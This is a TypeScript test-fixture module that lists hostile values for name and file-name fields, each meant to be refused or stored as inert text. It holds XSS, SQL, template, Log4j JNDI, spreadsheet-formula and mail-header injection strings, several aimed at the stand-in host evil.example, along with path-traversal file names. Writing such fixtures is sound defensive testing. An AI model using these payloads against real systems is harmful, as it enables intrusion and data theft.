/**
 * What people, programs and attackers type where a name is asked for. Each is either refused in so many words or kept
 * as the text that it is; nowhere does it become anything else.
 */

export type HostileValue = {
  what: string;
  text: string;
  /** Why a field of one line refuses it; absent where it is text like any other. */
  refused?: "invisible" | "tooLong" | "required";
};

/** A script that would leave a mark, should any page ever run it. */
export const MARK = "hostileMark";
const SCRIPT = `window.${MARK}=1`;

const MARKUP: HostileValue[] = [
  { what: "a script", text: `<script>${SCRIPT}</script>` },
  { what: "an image with a handler", text: `<img src=x onerror=${SCRIPT}>` },
  { what: "an SVG with a handler", text: `<svg/onload=${SCRIPT}>` },
  { what: "the end of an attribute and a script", text: `"><script>${SCRIPT}</script>` },
  { what: "a handler after a single quote", text: `' onmouseover='${SCRIPT}` },
  { what: "a handler after a double quote", text: `" autofocus onfocus="${SCRIPT}` },
  { what: "the end of every raw element", text: `</title></textarea></style><script>${SCRIPT}</script>` },
  { what: "a frame from elsewhere", text: "<iframe src=//evil.example/></iframe>" },
  { what: "a link elsewhere", text: '<a href="//evil.example/">ici</a>' },
  { what: "a style", text: "<style>*{display:none}</style>" },
  { what: "a base address", text: "<base href=//evil.example/>" },
  { what: "a redirection", text: '<meta http-equiv="refresh" content="0;url=//evil.example/">' },
  { what: "an open comment", text: "Fleury <!-- Léonie" },
  { what: "a CDATA section", text: "<![CDATA[Fleury]]>" },
  { what: "an external entity", text: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;' },
  { what: "entities", text: "&lt;b&gt;&amp;&#x3C;&nbsp;" },
  { what: "a script's address", text: `javascript:${SCRIPT}` },
  { what: "a page as data", text: `data:text/html,<script>${SCRIPT}</script>` },
];

const TEMPLATES: HostileValue[] = [
  { what: "fields of our own templates", text: "{{holder}} {{signature}} {{ reason }}" },
  { what: "a template literal", text: `$\{process.env.HOME}` },
  { what: "a server template", text: "<%= 7*7 %>" },
  { what: "other templates", text: "#{7*7} {% raw %} [[7*7]]" },
  { what: "patterns of a replacement", text: "$& $1 $$ $` $'" },
  { what: "a nested translation", text: "$t(common.none) {{count}}" },
  { what: "a printf format", text: "%s %d %n %x %o %j" },
  { what: "the name of a prototype", text: "__proto__" },
  { what: "an expression of a logging library", text: `$\{jndi:ldap://evil.example/a}` },
];

const FORMULAS: HostileValue[] = [
  { what: "a formula", text: '=HYPERLINK("http://evil.example/","ici")' },
  { what: "a command in a formula", text: "=cmd|'/C calc'!A0" },
  { what: "a plus", text: "+1+1" },
  { what: "a minus", text: "-2+3" },
  { what: "an at sign", text: "@SUM(1+1)" },
  { what: "an escape of spreadsheets", text: "_x0041__x000D_" },
  { what: "a formula after a tab", text: "Fleury\t=1+1", refused: "invisible" },
];

const LANGUAGES: HostileValue[] = [
  { what: "SQL", text: "'; DROP TABLE orders; --" },
  { what: "a condition of SQL", text: "' OR '1'='1" },
  { what: "wildcards", text: "100%_\\%" },
  { what: "JSON", text: '{"$ne":null}' },
  { what: "escapes, written out", text: "\\u0000 \\x00 \\r\\n \\\\" },
  { what: "a backslash at the end", text: "Fleury\\" },
  { what: "a parenthesis of PDF", text: ") Tj (Fleury" },
  { what: "a name of X.500", text: 'Fleury, CN=root+O="x"' },
  { what: "a word of programs", text: "null" },
];

const MAIL: HostileValue[] = [
  { what: "a header after a line end", text: "Fleury\r\nBcc: victim@evil.example", refused: "invisible" },
  { what: "the end of a mail", text: "Fleury\n.\nRSET", refused: "invisible" },
  { what: "a line end, percent-encoded", text: "%0d%0aBcc:victim@evil.example" },
  { what: "an encoded word", text: "=?utf-8?B?PHNjcmlwdD4=?=" },
  { what: "a second address", text: 'x@evil.example, "y" <z@evil.example>' },
];

const INVISIBLE: HostileValue[] = (
  [
    ["a right-to-left override", "Fleury\u202egpj.exe"],
    ["isolates", "\u2067Fleury\u2069 x"],
    ["a left-to-right mark", "Fleu\u200ery"],
    ["a zero-width space", "Fleu\u200bry"],
    ["a zero-width joiner", "👩\u200d👩\u200d👧"],
    ["a byte order mark inside", "Fleu\ufeffry"],
    ["a soft hyphen", "Fleu\u00adry"],
    ["tags of language", "Fleury\u{e0041}"],
    ["a filler that shows as nothing", "\u3164"],
    ["NUL", "Fleu\u0000ry"],
    ["a bell and a backspace", "Fleu\u0007\u0008ry"],
    ["colours of a terminal", "\u001b[31mFleury\u001b[0m"],
    ["a control of eight bits", "Fleu\u009b31mry"],
    ["DEL", "Fleu\u007fry"],
    ["half of a pair, the first", "Fleury\ud83d"],
    ["half of a pair, the second", "\ude00Fleury"],
    ["a line separator", "Fleury\u2028Léonie"],
    ["a paragraph separator", "Fleury\u2029Léonie"],
  ] as const
).map(([what, text]) => ({ what, text, refused: "invisible" }));

const WRITING: HostileValue[] = [
  { what: "letters from right to left", text: "שלום مرحبا (1) 2" },
  { what: "a stack of accents", text: `Z${"\u0301\u0323".repeat(40)}algo` },
  { what: "pictures", text: "😀🏴🇫🇷👍🏽" },
  { what: "letters of other alphabets that look alike", text: "Flеurу ﬁ Ωμέγα 漢字" },
  { what: "characters that are none", text: "Fleury \ufffe \uffff" },
  { what: "a character of private use", text: "Fleury \ue000" },
  { what: "wide spaces within", text: "Fleury\u3000\u00a0\u202fLéonie" },
  { what: "a very long word", text: "W".repeat(100) },
  { what: "a name of 10 kB", text: "Fleury".repeat(1707), refused: "tooLong" },
  { what: "nothing but spaces", text: " \u00a0\u3000 ", refused: "required" },
];

/** Every value for a field. */
export const HOSTILE_VALUES: readonly HostileValue[] = [
  ...MARKUP,
  ...TEMPLATES,
  ...FORMULAS,
  ...LANGUAGES,
  ...MAIL,
  ...INVISIBLE,
  ...WRITING,
];

/** Those that a name may be, as they are kept: without spaces around, composed (NFC). */
export const ACCEPTED_VALUES: readonly string[] = HOSTILE_VALUES.filter(({ refused }) => !refused).map(
  ({ text }) => text.trim().normalize("NFC"),
);

/** Names of files that are more than a name: every value, and those that mean something to a file system. */
export const HOSTILE_FILE_NAMES: readonly string[] = [
  ...HOSTILE_VALUES.map(({ text }) => `${text}.pdf`),
  "../../../etc/passwd",
  "..\\..\\windows\\system32\\config",
  "/etc/shadow",
  "C:\\autoexec.bat",
  "file:///etc/passwd",
  "..",
  ".htaccess",
  "CON",
  "nul.pdf",
  "Com1.tar.gz",
  "LPT¹.pdf",
  "aux .pdf",
  "facture.pdf. . .",
  "facture.pdf::$DATA",
  "facture.pdf%00.exe",
  "-rf",
  "~root",
  "'; filename=\"evil.html",
  "l'acte (1)*!~.pdf",
  `${"é".repeat(300)}.pdf`,
  "",
];
